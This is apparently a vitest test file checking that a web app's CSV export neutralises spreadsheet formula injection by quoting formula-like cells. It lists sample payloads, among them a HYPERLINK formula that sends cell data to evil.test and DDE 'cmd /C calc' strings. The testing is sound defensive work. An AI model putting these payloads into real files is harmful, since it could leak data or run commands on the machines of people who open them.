// The workspace's Download CSV (web/src/components/csv-export.tsx) writes every cell through the
// shared csvCell (src/prospects/write-csv.ts): formula-like cells (issue 36 item 13) are exported as
// text, with a leading quote, whether the button is given rows or reads a table.
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../src/prospects/parse-csv.ts";
import { toCsv } from "../../src/prospects/write-csv.ts";
import { tableRows } from "../../web/src/components/csv-export.tsx";

const NASTY = [
  '=HYPERLINK("http://evil.test/?d="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** Just enough of an HTMLTableElement for tableRows: rows of cells with text. */
function fakeTable(rows: string[][]): HTMLTableElement {
  const tr = rows.map((cells) => ({
    querySelectorAll: () => cells.map((textContent) => ({ textContent })),
  }));
  return { querySelectorAll: () => tr } as unknown as HTMLTableElement;
}

describe("workspace CSV export", () => {
  it("rows given to the button: every nasty cell leaves as text", () => {
    const csv = toCsv(
      ["Name", "Sent"],
      NASTY.map((n, i) => [n, -i]),
    );
    const back = parseCsv(csv);
    expect(back.rows.map((r) => r[0])).toEqual(NASTY.map((n) => `'${n}`));
    expect(back.rows.map((r) => r[1])).toEqual(NASTY.map((_, i) => String(-i)));
  });

  it("a table read from the page: the same, after its whitespace is folded", () => {
    const csv = toCsv(...tableRows(fakeTable([["Name", "Company"], ...NASTY.map((n) => [n, "Acme"])])));
    const back = parseCsv(csv);
    expect(back.header).toEqual(["Name", "Company"]);
    for (const [name] of back.rows) expect(name.startsWith("'")).toBe(true);
    expect(back.rows[0][0]).toBe(`'${NASTY[0]}`);
    // a leading tab or CR is folded away by the table reader; the formula behind it is still caught
    expect(back.rows[4][0]).toBe("'=1+1");
  });
});
